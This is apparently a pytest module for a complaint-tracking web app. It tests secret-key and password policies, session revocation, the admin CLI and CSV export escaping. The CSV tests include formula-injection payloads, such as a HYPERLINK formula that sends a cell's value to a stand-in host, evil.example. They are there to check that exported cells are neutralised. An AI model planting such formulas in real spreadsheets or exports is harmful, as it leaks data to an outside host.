"""Accounts and sessions: the secret key, demo users in production, sign-out on the server,
the password policy, the CLI, and CSV cells that could run as spreadsheet formulas."""

import csv
import io
import secrets
from datetime import UTC, date, datetime, timedelta

import pytest
from fastapi.testclient import TestClient
from pydantic import ValidationError
from sqlmodel import select
from typer.testing import CliRunner

from models.enums import Department, Role
from models.user import User, UserCreate
from tests.support import complaint_payload
from tests.test_web_pages import Browser
from workflow import db
from workflow.cli import app as cli
from workflow.config import DEV_SECRET_KEY, Settings, get_settings
from workflow.csv_export import csv_text

STRONG_KEY = secrets.token_urlsafe(48)
OPERATOR = UserCreate(
    username="ops",
    full_name="Olga Operations",
    email="ops@example.com",
    role=Role.admin,
    password="a-long-uncommon-passphrase-42",
)
HISTORY_KEY = secrets.token_urlsafe(48)


@pytest.mark.parametrize(
    ("key", "problem"),
    [
        (DEV_SECRET_KEY, "development key"),
        (secrets.token_urlsafe(48)[:31], "at least 32"),
        ("a" * 64, "different characters"),
        ("0123" * 16, "different characters"),
        ("", "empty"),
        ("   ", "empty"),
    ],
)
def test_production_refuses_a_short_low_entropy_or_development_secret_key(key, problem):
    with pytest.raises(ValidationError, match=problem) as refused:
        Settings(_env_file=None, environment="production", secret_key=key, history_key=HISTORY_KEY)
    if key.strip():
        assert key not in str(refused.value)  # the key itself is never echoed into a log


@pytest.mark.parametrize("environment", ["development", "test"])
def test_an_empty_secret_key_starts_in_no_environment(environment):
    with pytest.raises(ValidationError, match="empty"):
        Settings(_env_file=None, environment=environment, secret_key="")


def test_production_takes_a_long_random_secret_key():
    assert Settings(
        _env_file=None, environment="production", secret_key=STRONG_KEY, history_key=HISTORY_KEY
    )


def test_production_refuses_to_start_while_demo_users_sign_in_with_the_demo_password(
    settings, monkeypatch
):
    from api.main import create_app

    monkeypatch.setenv("CW_ENVIRONMENT", "production")
    monkeypatch.setenv("CW_SECRET_KEY", STRONG_KEY)
    monkeypatch.setenv("CW_HISTORY_KEY", HISTORY_KEY)
    get_settings.cache_clear()
    with pytest.raises(RuntimeError, match=r"demo users .*sales.* demo password"):  # noqa: SIM117
        with TestClient(create_app()):
            pass
    with db.write_session() as session:
        from workflow.user_accounts import deactivate_by_username
        from workflow.users import DEMO_USERS, create_user

        create_user(session, user_create=OPERATOR)  # the last admin stays
        for username, *_ in DEMO_USERS:
            deactivate_by_username(session, username=username, by="ops", reason="Go-live.")
    with TestClient(create_app()) as client:
        assert client.get("/api/v1/health").json()["database"]["status"] == "up"


def test_a_copied_session_cookie_stops_working_after_sign_out(base_url):
    person = Browser(base_url)
    assert person.sign_in("quality").status_code == 303
    copy = Browser(base_url)
    copy.client.cookies.set("cw_session", person.client.cookies["cw_session"])
    assert copy.client.get("/queue").status_code == 200

    signed_out = person.client.post("/logout", data={"csrf_token": person.csrf("/queue")})
    assert signed_out.status_code == 303
    replayed = copy.client.get("/queue")
    assert replayed.status_code == 303
    assert replayed.headers["location"].startswith("/login")
    person.client.close()
    copy.client.close()


def test_deactivating_a_user_ends_their_sessions_for_good(base_url):
    from workflow.user_accounts import deactivate_by_username

    person = Browser(base_url)
    assert person.sign_in("technical").status_code == 303
    assert person.client.get("/queue").status_code == 200
    with db.write_session() as session:
        deactivate_by_username(session, username="technical", by="ops", reason="Left.")
    assert person.client.get("/queue").status_code == 303
    with db.write_session() as session:  # back at work: a new sign-in, not the old session
        user = session.exec(select(User).where(User.username == "technical")).one()
        user.is_active = True
        session.add(user)
        session.commit()
    assert person.client.get("/queue").status_code == 303
    assert person.sign_in("technical").status_code == 303
    assert person.client.get("/queue").status_code == 200
    person.client.close()


def _new_user(password: str, username: str = "pat") -> UserCreate:
    return UserCreate(
        username=username,
        full_name="Pat Production",
        email="pat@example.com",
        role=Role.production,
        department=Department.production,
        password=password,
    )


@pytest.mark.parametrize(
    ("password", "problem"),
    [
        ("eleven-char", "at least 12 characters"),
        ("password1234", "most common"),
        ("QWERTY123456", "most common"),
        ("zzzzzzzzzzzzzzzz", "most common|too few"),
        ("abababababababab", "too few"),
        ("pat-likes-pumps-2026", "username"),
        ("my complaint portal", "name of this service"),
    ],
)
def test_a_short_common_or_guessable_password_is_refused(password, problem):
    with pytest.raises(ValidationError, match=problem) as refused:
        _new_user(password)
    assert refused.value.errors()[0]["loc"] == ("password",)


def test_a_long_uncommon_password_is_taken():
    assert _new_user("seal-batch-lighthouse-42").password == "seal-batch-lighthouse-42"


def test_create_user_checks_the_other_fields_before_asking_for_the_password(settings):
    runner = CliRunner()
    bad_role = runner.invoke(
        cli, ["create-user", "bob", "wizard", "bob@example.com"], input="x\nx\n"
    )
    assert bad_role.exit_code == 1
    assert "Password" not in bad_role.output
    assert "role" in bad_role.output

    taken = runner.invoke(cli, ["create-user", "sales", "sales", "s@example.com"], input="x\n")
    assert taken.exit_code == 1
    assert "Password" not in taken.output
    assert "user sales exists" in taken.output

    common = runner.invoke(
        cli, ["create-user", "bob", "sales", "bob@example.com"], input="password1234\n" * 2
    )
    assert common.exit_code == 1
    assert "most common" in common.output
    assert common.output.count("password1234") == 0  # never echoed back

    made = runner.invoke(
        cli,
        ["create-user", "bob", "sales", "bob@example.com", "--department", "sales"],
        input="seal-batch-lighthouse-42\n" * 2,
    )
    assert made.exit_code == 0, made.output
    assert "created bob (sales)" in made.output


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised():
    text = csv_text(
        ["group", "n"],
        [
            {"group": '=HYPERLINK("http://evil.example","x")', "n": -3},
            {"group": "+1+1", "n": 1},
            {"group": "-2+3", "n": 1},
            {"group": "@SUM(A1)", "n": 1},
            {"group": "\tcmd", "n": 1},
            {"group": "\r=1", "n": 1},
            {"group": " =1", "n": 1},
            {"group": "Pump P-200", "n": 1},
        ],
    )
    cells = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert all(c.startswith("'") for c in cells[:-1]), cells
    assert cells[-1] == "Pump P-200"
    assert [row[1] for row in csv.reader(io.StringIO(text))][1] == "-3"  # numbers stay numbers


def test_the_deadline_report_csv_neutralises_a_product_typed_as_a_formula(as_user):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Pump")'
    as_user("sales").log_complaint(**{**complaint_payload(), "product": formula})
    today = datetime.now(UTC).date()
    answer = as_user("manager").get(
        "/reports/deadlines",
        params={
            "from": date.isoformat(today - timedelta(days=1)),
            "to": date.isoformat(today + timedelta(days=2)),
            "group_by": "product",
        },
        headers={"Accept": "text/csv"},
    )
    assert answer.status_code == 200, answer.text
    groups = [row[0] for row in csv.reader(io.StringIO(answer.text))][1:]
    assert groups == [f"'{formula}"]


def test_the_command_line_cannot_deactivate_the_last_admin_and_logs_what_it_does(settings):
    from models.user_admin import UserChange

    runner = CliRunner()
    refused = runner.invoke(cli, ["deactivate-user", "admin", "--reason", "Going live."])
    assert refused.exit_code == 1
    assert "admin is the last active admin" in refused.output
    missing = runner.invoke(cli, ["deactivate-user", "nobody", "--reason", "Left."])
    assert missing.exit_code == 1
    assert "no user nobody" in missing.output
    done = runner.invoke(cli, ["deactivate-user", "sales", "--reason", "Left.", "--by", "olga"])
    assert done.exit_code == 0, done.output
    with db.read_session() as session:
        admin = session.exec(select(User).where(User.username == "admin")).one()
        sales = session.exec(select(User).where(User.username == "sales")).one()
        logged = session.exec(select(UserChange).where(UserChange.user_id == sales.id)).all()
    assert admin.is_active
    assert not sales.is_active
    assert [(e.actor, e.reason, e.changes) for e in logged] == [
        ("olga", "Left.", {"is_active": {"old": True, "new": False}})
    ]
